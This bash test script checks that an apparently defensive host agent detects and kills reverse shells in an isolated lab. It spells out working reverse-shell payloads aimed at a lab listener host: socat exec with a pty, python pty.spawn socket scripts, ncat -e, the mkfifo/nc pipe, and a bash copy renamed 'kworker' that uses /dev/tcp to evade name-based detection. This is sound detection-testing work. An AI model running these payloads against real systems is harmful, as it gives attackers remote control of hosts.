#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Reverse shells by behaviour, with the real tools, from the protected host
# to a listener on test host 1 (enforce, reverse_shell: contain-then-kill,
# the default; the daemon stops both, stores the finding, kills both):
#
#   - socat exec:'bash -li',pty,stderr,setsid tcp:H:P   (pty, relay socat)
#   - python3 pty.spawn("/bin/bash") over IPv4 and IPv6  (pty, relay python3)
#   - ncat -e /bin/sh, ncat -c 'bash -i'                  (pipes, relay ncat)
#   - rm f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc H P >f (fifo+pipes, relay nc)
#   - a renamed copy of bash with /dev/tcp on its stdio   (bash by build-id)
#   - a relay that starts the shell on a pty before it connects (python3)
#
# Each: the shell and the relay are both killed, the listener's command
# (sent 5 s after the connection) never runs, the finding names both, the
# binary's identity and the relay's peer, and its latency is printed.
#
# Not flagged (no reverse_shell finding, the processes run to their end):
#   - a pty session from a parent without network (script -qc bash);
#   - a CI runner: a job script fetched over the runner's own connection and
#     run as `bash -e FILE`, its output sent back over that connection; and
#     `producer | bash` where the producer holds a socket and bash's output
#     goes to the runner (two different processes, no remote shell);
#   - socat as a plain TCP port forward;
#   - an agent that does relay a shell (socat exec:bash over TCP) is
#     allowed by its executable path (reverse_shell.allowed), while the
#     same binary elsewhere is not.
. "$(dirname "$0")/lib.sh"
need_tools socat ncat nc.openbsd python3 script mkfifo

EV=$IRC_TMP/events.jsonl
POL=$IRC_TMP/policy.yaml
H1=10.77.1.2 H1V6=fd77:1::2
PY=/usr/bin/python3	# Debian's, not a shim
BIN=$IRC_TMP/bin
mkdir -p "$BIN"
trap 'rc=$?; (exit $rc); lab_finish' EXIT

# policy ALLOWED...: enforce, reverse_shell contain-then-kill, the other host detectors off.
policy() {
	local allowed=""
	(($#)) && allowed=", allowed: [$(IFS=,; echo "$*")]"
	cat >"$POL" <<EOF
mode: enforce
detectors:
  portscan: {enabled: false}
  synflood: {enabled: false}
  exec_tmp: {enabled: false}
  fileless: {enabled: false}
  reverse_shell: {enabled: true, severity: critical, action: contain-then-kill$allowed}
  sensitive_read: {enabled: false}
  ptrace: {enabled: false}
  module_load: {enabled: false}
EOF
	irc policy apply "$POL" >"$IRC_TMP/apply.out" 2>&1 || { cat "$IRC_TMP/apply.out"; return 1; }
}

cgid() { mkdir -p "$IRC_CG/$1" && stat -c %i "$IRC_CG/$1"; }
evq() { grep -F '"kind":"alert"' "$EV" | jq -cR "fromjson? | select($1)" 2>/dev/null; }
fnd() { evq ".event.action == \"reverse_shell_detected\" and .ircontain.cgroup_id == $(cgid "$1")"; }
has_fnd() { [[ -n $(fnd "$1") ]]; }
none() {
	local n
	n=$(fnd "$1" | wc -l)
	((n == 0)) || { echo "$n finding(s):"; fnd "$1" | head -2 | cut -c1-1500; return 1; }
}
is() {
	local j=${1%%$'\n'*}
	[[ -n $j ]] || { echo "no such finding"; return 1; }
	jqx "$2" <<<"$j" || { echo "$j" | cut -c1-1500; return 1; }
}
procs() { cat "$IRC_CG/$1/cgroup.procs" 2>/dev/null; }
empty_cg() { [[ -z $(procs "$1") ]]; }

# listen CASE PORT [ADDR]: one connection on host 1; 5 s after it comes, the
# listener sends a command whose output ("PWNED-42") must never come back.
listen() {
	local addr=${3:-0.0.0.0} fam=TCP4
	[[ $addr == *:* ]] && fam=TCP6 addr="[$addr]"
	bg ip netns exec "${IRC_NS_PFX}h1" timeout 20 socat -d -d -v \
		"$fam-LISTEN:$2,reuseaddr,bind=$addr" \
		SYSTEM:'sleep 5; echo "echo PWNED-\$((6*7))"; sleep 4' \
		2>"$IRC_TMP/$1.log" >/dev/null
	wait_for 5 in_h 1 sh -c "ss -Htln sport = :$2 | grep -q ."
}
# What crossed the connection both ways is in the log (-v): the command as
# sent reads "PWNED-$((6*7))", only its output reads "PWNED-42".
connected() { grep -q "accepting connection" "$IRC_TMP/$1.log"; }
pwned() { grep -q "PWNED-42" "$IRC_TMP/$1.log"; }

# shell_case NAME PORT RELAY IDENT CMD...: CMD in cgroup NAME of the
# protected host, against the listener on PORT.
shell_case() {
	local name=$1 port=$2 relay=$3 ident=$4 lat
	shift 4
	listen "$name" "$port" "${ADDR:-}" || not_ok "$name: listener on host 1:$port"
	bg cg_run "$name" ip netns exec "$IRC_NS_P" timeout 15 "$@"
	check "$name: reverse_shell_detected" wait_for 10 has_fnd "$name"
	check "$name: finding names the shell ($ident, by identity) and the relay ($relay)" \
		is "$(fnd "$name")" ".ircontain.finding.shell.identity == \"$ident\" and (.ircontain.finding.relay.name | startswith(\"$relay\")) and .ircontain.finding.enforced == true and .ircontain.finding.action == \"contain-then-kill\" and .ircontain.finding.severity == \"critical\" and (.ircontain.finding.relay.remote | test(\"$port\$\")) and (.message | test(\"killed\"))"
	check "$name: shell and relay gone (the cgroup is empty)" wait_for 5 empty_cg "$name"
	check "$name: the listener had the connection" connected "$name"
	sleep_until_sent=$((SECONDS + 6))
	while ((SECONDS < sleep_until_sent)) && ! grep -q 'PWNED-\$' "$IRC_TMP/$name.log"; do sleep 0.2; done
	check_fail "$name: the listener's command never ran" pwned "$name"
	lat=$(fnd "$name" | head -1 | jq -r '"\(.ircontain.finding.latency_us) us after the \(.ircontain.finding.trigger) (\(.ircontain.finding.since_exec_us) us after the exec), stdin \(.ircontain.finding.shell.stdin), by \(.ircontain.finding.shell.identified_by)"')
	echo "# $name: contained $lat"
}

lab_up 1 || { not_ok "lab up"; exit 1; }
check_rc "load --iface iv1" 0 irc load --iface iv1
check "policy: enforce, reverse_shell contain-then-kill" policy
bg nsenter --net="/run/netns/$IRC_NS_P" "$IRC_BIN" run --events-file "$EV" \
	2>"$IRC_TMP/daemon.err"
DPID=$!
daemon_ready() { [[ $(jq -r .pid "$IRCONTAIN_STATE_DIR/run.json" 2>/dev/null) == "$DPID" ]]; }
check "run: ready" wait_for 5 daemon_ready
check "run: knows the host's shells and watches the test's cgroup" \
	grep -q "reverse shells: [1-9][0-9]* shells and interpreters known on this host, watching /$IRC_ID" "$IRC_TMP/daemon.err"

# ---- the reverse shells ------------------------------------------------------

shell_case socat_pty 7801 socat bash \
	socat "exec:bash -li,pty,stderr,setsid" "tcp:$H1:7801"
PYRS='import pty,socket,os,sys
s=socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET)
s.connect((sys.argv[1],int(sys.argv[2])))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
pty.spawn("/bin/bash")'
shell_case py_pty4 7802 python3 bash "$PY" -c "$PYRS" "$H1" 7802
ADDR=$H1V6 shell_case py_pty6 7803 python3 bash "$PY" -c "$PYRS" "$H1V6" 7803
shell_case ncat_e 7804 ncat dash ncat -e /bin/sh "$H1" 7804
shell_case ncat_c 7805 ncat bash ncat -c "bash -i" "$H1" 7805
shell_case nc_fifo 7806 nc.openbsd dash \
	sh -c "cd '$IRC_TMP' && rm -f f && mkfifo f && cat f | /bin/sh -i 2>&1 | nc.openbsd $H1 7806 >f"
# The relay makes its socket, starts the shell on a pty, and dials only a
# second later (socat's own order, slowed down): the finding waits for the
# connection and names its peer.
PYLATE='import pty,socket,os,sys,time,select
s=socket.socket(socket.AF_INET)
pid,m=pty.fork()
if pid == 0:
    os.execv("/bin/bash",["bash","-i"])
time.sleep(1)
s.connect((sys.argv[1],int(sys.argv[2])))
while True:
    r=select.select([s,m],[],[])[0]
    d=s.recv(4096) if s in r else os.read(m,4096)
    if not d:
        break
    if s in r:
        os.write(m,d)
    else:
        s.sendall(d)'
shell_case py_late 7816 python3 bash "$PY" -c "$PYLATE" "$H1" 7816
cp /bin/bash "$BIN/kworker"
shell_case renamed 7807 kworker bash \
	"$BIN/kworker" -c "exec 3<>/dev/tcp/$H1/7807; exec $BIN/kworker -i <&3 >&3 2>&3"
check "renamed copy: identified by its build-id, not its name" \
	is "$(fnd renamed)" '.ircontain.finding.shell.identified_by == "build-id" and .process.name == "kworker"'

# ---- what is not a reverse shell ---------------------------------------------

# A pty session from a parent with no network: script(1) runs bash on a pty.
check_rc "script -qc bash: a pty session runs to its end" 0 \
	cg_run fp_script ip netns exec "$IRC_NS_P" timeout 10 \
	sh -c 'printf "echo hello-from-pty\nexit 0\n" | script -qec bash /dev/null | grep -q hello-from-pty'

# A CI runner: it holds its connection to the coordinator (a socat server
# on host 1 that hands out the job and keeps the log), fetches the script,
# runs it as a file, and sends its output back.  Then the curl-like form:
# a producer holding a socket pipes the script into bash, whose output goes
# to the runner (not to the producer).
printf 'echo job-step-1\nuname -s\necho job-done\n' >"$IRC_TMP/job.sh"
bg ip netns exec "${IRC_NS_PFX}h1" timeout 20 socat TCP4-LISTEN:7810,reuseaddr,fork \
	SYSTEM:"cat '$IRC_TMP/job.sh'; cat >>'$IRC_TMP/ci.log'"
bg ip netns exec "${IRC_NS_PFX}h1" timeout 20 socat TCP4-LISTEN:7811,reuseaddr,fork \
	SYSTEM:"cat '$IRC_TMP/job.sh'"
check "coordinator on host 1" wait_for 5 in_h 1 sh -c "ss -Htln sport = :7811 | grep -q ."
cat >"$BIN/runner.sh" <<'EOF'
# runner COORD: the job over the runner's connection, run from a file.
exec 3<>"/dev/tcp/$1/7810"
timeout 2 head -n 3 <&3 >"$2/job-run.sh"
bash -e "$2/job-run.sh" 3>&- 2>&1 | while read -r l; do echo "log: $l" >&3; done
# The curl-like form: the producer holds a socket, bash's output goes to the runner.
# (A runner's own connection is close-on-exec, as Go's and Python's are: 3>&-.)
socat -u "TCP4:$1:7811" STDOUT 3>&- | bash 3>&- 2>&1 | while read -r l; do echo "log2: $l" >&3; done
sleep 0.5
exec 3>&-
EOF
check_rc "CI runner: both jobs run to their end" 0 \
	cg_run fp_ci ip netns exec "$IRC_NS_P" timeout 10 bash "$BIN/runner.sh" "$H1" "$IRC_TMP"
check "CI runner: the coordinator got both jobs' output" \
	wait_for 3 sh -c "grep -q 'log: job-done' '$IRC_TMP/ci.log' && grep -q 'log2: job-done' '$IRC_TMP/ci.log'"

# socat as a port forward: 8080 on the protected host to an echo server on host 1.
bg ip netns exec "${IRC_NS_PFX}h1" timeout 20 socat TCP4-LISTEN:7812,reuseaddr,fork EXEC:cat
bg cg_run fp_fwd ip netns exec "$IRC_NS_P" timeout 10 \
	socat TCP4-LISTEN:7813,reuseaddr,fork "TCP4:$H1:7812"
check "port forward listening" wait_for 5 in_p sh -c "ss -Htln sport = :7813 | grep -q ."
check "port forward: traffic goes through" \
	sh -c "echo through-the-forward | ip netns exec '$IRC_NS_P' timeout 3 socat -t 1 - TCP4:127.0.0.1:7813 | grep -q through-the-forward"

# An agent that relays a shell by design, allowed by its executable path.
check "policy: allowed [$BIN/agent]" policy "$BIN/agent"
cp "$(readlink -f "$(command -v socat)")" "$BIN/agent"
listen fp_agent 7814 || not_ok "listener for the agent"
bg cg_run fp_agent ip netns exec "$IRC_NS_P" timeout 8 \
	"$BIN/agent" "exec:bash -li,pty,stderr,setsid" "tcp:$H1:7814"
check "allowed agent: connected" wait_for 5 connected fp_agent
check "allowed agent: its shell ran the listener's command" wait_for 12 pwned fp_agent
# The same binary at another path is not allowed.
shell_case agent_copy 7815 socat bash \
	socat "exec:bash -li,pty,stderr,setsid" "tcp:$H1:7815"

sleep 1
for c in fp_script fp_ci fp_fwd fp_agent; do
	check "$c: no reverse_shell finding" none "$c"
done

# ---- cost ---------------------------------------------------------------------
kill -TERM "$DPID"
check "run: exits" wait_for 5 sh -c "! kill -0 $DPID"
jq -c '.reverse_shell' "$IRCONTAIN_STATE_DIR/run.json" | sed 's/^/# run.json reverse_shell: /'
check "run.json: execs looked at, each in bounded time" \
	jqx '.reverse_shell.execs > 0 and .reverse_shell.found >= 9 and .reverse_shell.exec_us_max < 1000000' \
	<"$IRCONTAIN_STATE_DIR/run.json"
check_rc "unload" 0 irc unload
